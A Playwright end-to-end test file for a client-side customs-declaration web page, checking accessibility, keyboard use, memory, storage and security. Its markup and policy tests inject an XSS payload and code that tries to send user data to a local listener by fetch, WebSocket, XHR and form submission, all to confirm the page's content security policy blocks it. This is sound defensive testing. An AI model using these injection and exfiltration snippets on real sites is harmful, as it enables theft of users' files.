// What a user does on cape.html, and what the page must not do: node session.mjs BROWSER CAPE_HTML FOLDER [PART…]
// FOLDER has es003.csv, messy.csv, broker.xlsx and filers.csv, and runs.json says what the program made of the last two.
// Pictures of every screen are left in FOLDER/pictures.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { address, assertSame, axe, build, choose, drop, folder, give, input, launch, noWorker, open, results, settled, unpacked } from "./driver.mjs";

const pictures = join(folder, "pictures");
mkdirSync(pictures, { recursive: true });
const at = (name) => join(folder, name);
/** A picture of the page from an element on, as high as there is something to see. */
async function shot(page, name, [width, height], from) {
  await page.setViewportSize({ width, height });
  await page.evaluate(() => { document.querySelector("nav").style.position = "static"; });
  const shown = await page.locator(from).evaluate((element) => {
    scrollTo(0, element.getBoundingClientRect().top + scrollY - 16);
    return document.documentElement.getBoundingClientRect().bottom;
  });
  // A frame draws itself a little later.
  await page.waitForTimeout(300);
  await page.screenshot({ path: join(pictures, `${name}-${width}.png`), clip: { x: 0, y: 0, width, height: Math.min(height, shown) } });
}

async function accessible(page, name) {
  // The worker of a frame can't be looked into; report.html has tests of its own.
  await page.evaluate(axe);
  const found = await page.evaluate(() => window.axe.run(document, { exclude: ["iframe"] }));
  const told = found.violations.map(({ id, nodes }) => `${id}: ${nodes.slice(0, 3).map((node) => node.html).join("\n  ")}`);
  assert.deepEqual(told, [], `accessibility, ${name}`);
}

async function fits(page, name) {
  for (const width of [1920, 1280, 390]) {
    await page.setViewportSize({ width, height: 900 });
    const content = await page.evaluate(() => document.documentElement.scrollWidth);
    assert.ok(content <= width, `${name}: ${content} wide on ${width}`);
  }
  await page.setViewportSize({ width: 1280, height: 900 });
}

/** Pictures at both widths, from an element on; accessibility in light and dark. */
async function look(page, name, from = "h1") {
  for (const colorScheme of ["light", "dark"]) {
    await page.emulateMedia({ colorScheme });
    await accessible(page, `${name}, ${colorScheme}`);
  }
  await page.emulateMedia({ colorScheme: "light" });
  await fits(page, name);
  await shot(page, name, [390, 1500], from);
  await shot(page, name, [1280, 1500], from);
  await page.setViewportSize({ width: 1280, height: 900 });
}

const show = async (page, task) => {
  await page.locator(`nav a[href="#${task}"]`).click();
  await page.locator(`#${task}`).waitFor();
};

const runs = JSON.parse(readFileSync(join(folder, "runs.json"), "utf8"));

/** A broker with a workbook of 400 entries: drops it, chooses, builds, saves each file and all of them. */
async function broker(browser) {
  const { page, done } = await open(browser);
  await drop(page, "#inputs", at("broker.xlsx"));
  await settled(page);
  assert.match(await page.locator("#inputs article").textContent(), /^broker\.xlsx.*400 entries/);
  assert.match(await page.locator("#status").textContent(), /Choose who files/);
  // The only filer is chosen already.
  assert.ok(await page.locator("[name=filer][value=B76]").isChecked());
  await choose(page, runs.broker);
  assert.equal(await build(page), undefined);
  const all = await archive(page);
  assertSame(all, runs.broker);
  // One of each kind is saved by its own button; hundreds of clients would take minutes.
  for (const name of [/^CAPE_B76_.*_001\.csv$/, /^clients\/[^/]+\/CAPE_.*\.csv$/, /^clients\/.*report\.html$/, /^results\.xlsx$/, /^deadlines\.ics$/]) {
    const wanted = runs.broker.files.find((file) => name.test(file));
    const made = await results(page, `#result-body table [data-head=Save]:has([download="${wanted}"])`);
    assert.deepEqual(Object.keys(made), [wanted]);
    assert.ok(all[wanted].equals(made[wanted]), wanted);
  }
  await done();
}

/** All results, as the page packs them. */
async function archive(page) {
  await page.getByRole("button", { name: "Prepare all results as .zip" }).click();
  const link = page.getByRole("link", { name: /cape-out\.zip/ });
  const [download] = await Promise.all([page.waitForEvent("download"), link.click()]);
  assert.equal(download.suggestedFilename(), "cape-out.zip");
  return unpacked(readFileSync(await download.path()));
}

/** An importer whose entries four brokers filed: the only importer of the file is chosen with “The importer of record”. */
async function importer(browser) {
  const { page, done } = await open(browser);
  await give(page, [at("filers.csv")]);
  assert.equal(await page.locator("[name=filer]").count(), 4);
  assert.match(await build(page), /who files\?.*What to do/);
  await choose(page, { day: runs.importer.day });
  assert.ok(await page.locator(`[name=importer][value="${runs.importer.importers[0]}"]`).isChecked());
  await look(page, "importer");
  assert.equal(await build(page), undefined);
  const made = await results(page);
  assertSame(made, runs.importer);
  const uploads = Object.keys(made).filter((name) => /^CAPE_IMPORTER_\d+\.csv$/.test(name));
  const filers = new Set(uploads.flatMap((name) => made[name].toString().trim().split("\r\n").slice(1)).map((entry) => entry.slice(0, 3)));
  assert.equal(filers.size, 4, "entries of every filer are in the upload files");
  await done();
}

/** Every screen of a declaration, from the empty page to the result, and what is left out taken in by a click. */
async function screens(browser) {
  const { page, done } = await open(browser);
  assert.match(await page.locator("header .scope").textContent(), /cape \d+\.\d+\.\d+, rules as of \d{4}-\d\d-\d\d$/);
  await look(page, "empty");
  await give(page, [at("es003.csv")]);
  await choose(page, { filer: "B76", day: "2026-05-01" });
  await look(page, "who");
  assert.equal(await build(page), undefined);
  assert.match(await page.locator(".verdict").textContent(), /^11 entries are ready to upload: \$94,578\.75/);
  const steps = page.locator("#result-body .steps li");
  assert.match(await steps.first().textContent(), /^Decide first on 1 entry \(\$5,820\.00\) of type 21/);
  assert.match(await steps.nth(1).textContent(), /^Upload 11 entries \(\$94,578\.75\), the first by 2026-05-01 \(today\)/);
  const report = page.frameLocator("iframe");
  assert.equal(await report.locator("h1").textContent(), "CAPE declaration");
  // The style and the script of the report live in the frame, by the policy of the page.
  assert.equal(await report.locator("nav").evaluate((nav) => getComputedStyle(nav).position), "sticky");
  assert.ok(await report.locator("thead button").count() > 0);
  // It can't reach the page, which has the files.
  assert.equal(await report.locator("h1").evaluate(() => { try { return parent.document.title; } catch { return "refused"; } }), "refused");
  await look(page, "result", "#result-title");
  await page.locator("#result-body details summary").first().click();
  await look(page, "findings", "#result-body details");
  await page.getByRole("button", { name: "Choose all IEEPA headings" }).click();
  await page.locator(".command", { hasText: "--scope all-ieepa" }).waitFor();
  assert.match(await page.locator(".verdict").textContent(), /^12 entries are ready to upload/);
  await done();
}

/** Runs one after the other give the same, and leave no worker and no memory behind. */
async function again(browser) {
  const { page, done } = await open(browser);
  const session = await page.context().newCDPSession(page);
  const held = async () => {
    await session.send("HeapProfiler.collectGarbage");
    const { usedSize, embedderHeapUsedSize = 0, backingStorageSize = 0 } = await session.send("Runtime.getHeapUsage");
    return usedSize + embedderHeapUsedSize + backingStorageSize;
  };
  await give(page, [at("broker.xlsx")]);
  await choose(page, runs.broker);
  const run = async () => {
    assert.equal(await build(page), undefined);
    await noWorker(page);
  };
  await run();
  const first = await archive(page);
  await run();
  const after = await held();
  for (let n = 0; n < 2; n += 1) await run();
  const grown = await held() - after;
  assert.ok(grown < 2e6, `two more runs hold ${grown} bytes more`);
  const last = await archive(page);
  for (const name of Object.keys(first)) if (!name.endsWith("summary.json")) assert.ok(first[name].equals(last[name]), name);
  assertSame(last, runs.broker);
  await done();
}

/** Presses Tab until this has the focus. */
async function tabTo(page, selector) {
  for (let presses = 0; presses < 80; presses += 1) {
    await page.keyboard.press("Tab");
    if (await page.evaluate((selector) => document.activeElement.matches(selector), selector)) return;
  }
  assert.fail(`Tab doesn't lead to ${selector}`);
}

/** By keyboard alone, from the first Tab to the saved file. */
async function keyboard(browser) {
  const { page, done } = await open(browser);
  await tabTo(page, ".skip");
  // Asked for before, as the browser must know by then that no dialog is wanted.
  const chooser = page.waitForEvent("filechooser");
  await tabTo(page, "#inputs input[type=file]");
  await page.keyboard.press("Enter");
  await (await chooser).setFiles([at("es003.csv")]);
  await settled(page);
  await tabTo(page, "[name=filer]");
  await page.keyboard.press("Space");
  await tabTo(page, "[name=asOf]");
  await page.keyboard.type("05012026");
  await tabTo(page, "#who-form [type=submit]");
  await settled(page);
  if (await page.evaluate(() => document.activeElement === document.body)) await tabTo(page, "#who-form [type=submit]");
  await page.keyboard.press("Enter");
  await page.locator("#result-body .verdict").waitFor();
  assert.equal(await page.evaluate(() => document.activeElement.id), "result-title");
  await tabTo(page, "#result-body a.save.main");
  const [download] = await Promise.all([page.waitForEvent("download"), page.keyboard.press("Enter")]);
  assert.match(readFileSync(await download.path(), "utf8"), /^Entry Number\r\nB76\d{8}\r\n/);
  await done();
}

/** The check of an upload file, the questions and the rules. */
async function others(browser) {
  const { page, done } = await open(browser);
  await show(page, "check");
  await input(page, "#uploads").setInputFiles([at("messy.csv")]);
  await page.locator("#checked article").waitFor();
  const saves = page.locator("#checked a.save");
  assert.deepEqual(await saves.allTextContents(), ["Save messy_001.csv", "Save messy_changes.csv"]);
  assert.ok(!(await page.locator("#checked").textContent()).includes("--fix"), "a flag of the program is no help here");
  await look(page, "check");
  await show(page, "ready");
  await page.locator("#ready-body form").waitFor();
  await page.locator("[name=importers]").fill("12-3456789, 98-7654321");
  await page.locator("[name=routingNumber]").fill("021000022");
  await page.locator("#ready-body button.act").click();
  await page.locator("#ready-result .verdict").waitFor();
  assert.match(await page.locator("#ready-result").textContent(), /^No/);
  assert.ok(!(await page.locator("#ready-result").textContent()).includes("--"), "a flag of the program is no help here");
  assert.ok(!(await page.locator("body").innerHTML()).includes("021000022"), "the routing number shows");
  await look(page, "ready");
  await look(page, "ready-result", "#ready-result");
  await show(page, "rules");
  await page.locator("#rules-body input").fill("final liquidation");
  const found = page.locator("#rules-body .rule-text").filter({ visible: true });
  assert.ok(await found.count() > 0 && await found.count() < 20);
  await found.first().locator("summary").click();
  await look(page, "rules");
  await done();
}

/** Names of files and cells are text wherever they show. */
async function markup(browser) {
  const { page, done } = await open(browser);
  const header = readFileSync(at("es003.csv"), "utf8").split("\n", 1)[0];
  const rows = readFileSync(at("es003.csv"), "utf8").replaceAll("Marta Quillfeather", "<img src=x onerror=alert(1)>");
  const name = "<img src=x onerror=alert(1)>.csv";
  await give(page, [{ name, mimeType: "text/csv", buffer: Buffer.from(rows) }]);
  await choose(page, { filer: "B76", day: "2026-05-01" });
  assert.equal(await build(page), undefined);
  assert.equal(await page.locator("img, main script, a[href^=javascript]").count(), 0);
  assert.equal(await page.frameLocator("iframe").locator("img").count(), 0);
  assert.ok(header.length > 0 && (await page.locator(".command").textContent()).includes(`"${name}"`));
  await done();
}

/** What can't be read is said, and the page goes on. */
async function garbage(browser) {
  const { page, done } = await open(browser);
  const bytes = Buffer.from(Array.from({ length: 5000 }, (_, n) => (n * 7919) % 251));
  await give(page, [{ name: "noise.bin", mimeType: "", buffer: bytes }]);
  assert.ok(await page.locator("#inputs .file.bad").count() > 0);
  assert.equal((await page.locator("#inputs").textContent()).match(/What to do/g).length, 1, "it is said once");
  await look(page, "unreadable");
  await page.getByRole("button", { name: "Remove noise.bin" }).click();
  await give(page, [at("es003.csv")]);
  await choose(page, { day: "2026-05-01", filer: "zz!" });
  assert.match(await build(page), /filer code.*What to do/);
  await choose(page, { filer: "B76" });
  await page.locator("[name=otherFiler]").fill("");
  assert.equal(await build(page), undefined);
  await done();
}

/** A server that counts who calls it. */
async function listener() {
  const calls = [];
  const server = createServer((request, response) => { calls.push(request.url); response.end(); });
  server.on("upgrade", (request, socket) => { calls.push(request.url); socket.destroy(); });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { calls, host: `127.0.0.1:${server.address().port}`, close: () => server.close() };
}

/** A page that was altered to call out is stopped by its policy, wherever it was altered. */
async function policy(browser) {
  const html = readFileSync(new URL(address), "utf8");
  const declared = /Content-Security-Policy" content="([^"]*)"/.exec(html)[1];
  assert.match(declared, /^default-src 'none'; connect-src 'none'; script-src 'sha256-[^']+' 'sha256-[^']+' 'wasm-unsafe-eval';/);
  assert.ok(!/unsafe-inline|'unsafe-eval'|https?:|data:|\*/.test(declared), declared);
  const { calls, host, close } = await listener();
  const altered = async (content) => {
    const file = join(folder, "altered.html");
    assert.notEqual(content, html);
    writeFileSync(file, content);
    const page = await (await browser.newContext()).newPage();
    await page.goto(pathToFileURL(file).href);
    return page;
  };

  // Its script: the hash is another one, so that none of it runs.
  let page = await altered(html.replace('"use strict";', `"use strict"; fetch("http://${host}/script");`));
  assert.ok(await page.getByText("Firefox 113").isVisible());
  await page.context().close();

  // Its worker, which has every file of the user: it runs, and can't call.
  page = await altered(html.replace("onmessage = ({ data }) => {", `$&
    for (const call of [() => fetch("http://${host}/worker"), () => new WebSocket("ws://${host}/socket"), () => new EventSource("http://${host}/events"),
      () => importScripts("http://${host}/import"), () => { const sent = new XMLHttpRequest(); sent.open("POST", "http://${host}/sent", false); sent.send("stolen"); }]) {
      try { Promise.resolve(call()).catch(() => {}); } catch {}
    }`));
  await give(page, [at("es003.csv")]);
  assert.ok(await page.locator("#who-form [type=submit]").isVisible(), "the altered worker works");
  await page.context().close();

  // Its markup, and what script of the page itself might try.
  page = await altered(html.replace("</body>", `<script>fetch("http://${host}/added")</script><img src="http://${host}/image"><link rel="stylesheet" href="http://${host}/style">
<form action="http://${host}/form" id="f"></form><iframe src="http://${host}/frame"></iframe></body>`));
  const tried = await page.evaluate(async (host) => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
    const calls = [() => fetch(`http://${host}/a`), () => fetch("data:text/plain,a"), () => fetch(URL.createObjectURL(new Blob(["a"]))),
      () => new WebSocket(`ws://${host}/b`), () => new EventSource(`http://${host}/c`), () => Function("return 1")(),
      () => { if (!navigator.sendBeacon(`http://${host}/d`)) throw new Error("refused"); }];
    let refused = 0;
    for (const call of calls) {
      try { const it = await call(); if (it instanceof EventTarget) await new Promise((_, reject) => { it.onerror = reject; setTimeout(reject, 500); }); } catch { refused += 1; }
    }
    document.getElementById("f").submit();
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { refused, all: calls.length, violations };
  }, host);
  // A beacon is dropped by the policy after it was taken.
  assert.ok(tried.refused >= tried.all - 1, JSON.stringify(tried));
  for (const directive of ["connect-src", "form-action"]) assert.ok(tried.violations.includes(directive), JSON.stringify(tried.violations));
  await page.context().close();
  assert.deepEqual(calls, []);
  // The server does count what nothing forbids.
  await fetch(`http://${host}/counted`);
  assert.deepEqual(calls, ["/counted"]);
  close();
}

/** Nothing is kept, whatever was done. */
async function nothingKept(browser) {
  const { page, done } = await open(browser);
  await give(page, [at("es003.csv")]);
  await choose(page, { filer: "B76", day: "2026-05-01" });
  await build(page);
  const kept = await page.evaluate(async () => [localStorage.length, sessionStorage.length, document.cookie, (await indexedDB.databases?.() ?? []).length]);
  assert.deepEqual(kept, [0, 0, "", 0]);
  await done();
}

/** Without script, and in a browser that lacks what the page needs, a sentence says so. */
async function sentences(browser) {
  const context = await browser.newContext({ javaScriptEnabled: false });
  const still = await context.newPage();
  await still.goto(address);
  assert.ok(await still.getByText("Firefox 113").isVisible());
  assert.equal(await still.locator("button, nav").filter({ visible: true }).count(), 0);
  await context.close();
  const old = await (await browser.newContext()).newPage();
  await old.addInitScript(() => { delete window.DecompressionStream; });
  await old.goto(address);
  assert.ok(await old.getByText("Safari 16.4").isVisible());
  await old.context().close();
}

const browser = await launch();
try {
  const parts = [screens, broker, importer, again, keyboard, others, markup, garbage, policy, nothingKept, sentences];
  const wanted = process.argv.slice(5);
  for (const part of parts.filter(({ name }) => wanted.length === 0 || wanted.includes(name))) {
    const started = Date.now();
    await part(browser);
    console.log(`${part.name}: ${Date.now() - started} ms`);
  }
} finally {
  await browser.close();
}
